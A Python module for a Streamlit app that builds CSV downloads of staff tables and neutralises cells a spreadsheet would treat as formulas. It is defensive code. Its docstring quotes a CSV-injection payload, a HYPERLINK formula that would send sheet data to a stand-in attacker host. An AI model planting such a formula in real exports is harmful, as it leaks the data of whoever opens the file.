"""CSV downloads of staff tables, with cells that a spreadsheet would run as formulas neutralised.

Customer text ends up in these tables (questions, ticket summaries). A cell starting with = + - @
(or a tab / carriage return, or their full-width forms, or any of these after spaces) is a formula to
Excel, LibreOffice and Google Sheets: `=HYPERLINK("http://evil.example?"&A1, "refund")` would send
the sheet's data away. OWASP's advice is followed: such a cell gets a leading apostrophe. Streamlit's
own table export is turned off (`client.disableDataExport` in .streamlit/config.toml), so these
buttons are the only way out.
"""

from __future__ import annotations

import csv
import io
from collections.abc import Mapping, Sequence
from typing import Any

import streamlit as st

_FORMULA_START = ("=", "+", "-", "@", "\t", "\r", "\uff1d", "\uff0b", "\uff0d", "\uff20")


def neutralize_cell(value: Any) -> Any:
    """`value` with a leading apostrophe if a spreadsheet would read it as a formula; non-text unchanged."""
    if isinstance(value, str) and value.lstrip(" ").startswith(_FORMULA_START):
        return "'" + value
    return value


def csv_bytes(rows: Sequence[Mapping[str, Any]]) -> bytes:
    """Rows as CSV (UTF-8 with a BOM, so spreadsheets read Arabic right), every cell neutralised."""
    out = io.StringIO()
    columns = list(rows[0]) if rows else []
    writer = csv.DictWriter(out, fieldnames=columns, extrasaction="ignore")
    writer.writeheader()
    for row in rows:
        writer.writerow({key: neutralize_cell(value) for key, value in row.items()})
    return out.getvalue().encode("utf-8-sig")


def download_csv(rows: Sequence[Mapping[str, Any]], file_name: str, key: str, label: str = "Download CSV") -> None:
    """A download button for `rows` (the staff tables' only export)."""
    st.download_button(
        label, csv_bytes(rows), file_name=file_name, mime="text/csv", key=key, icon=":material/download:",
        on_click="ignore",  # downloading must not rerun the page
    )
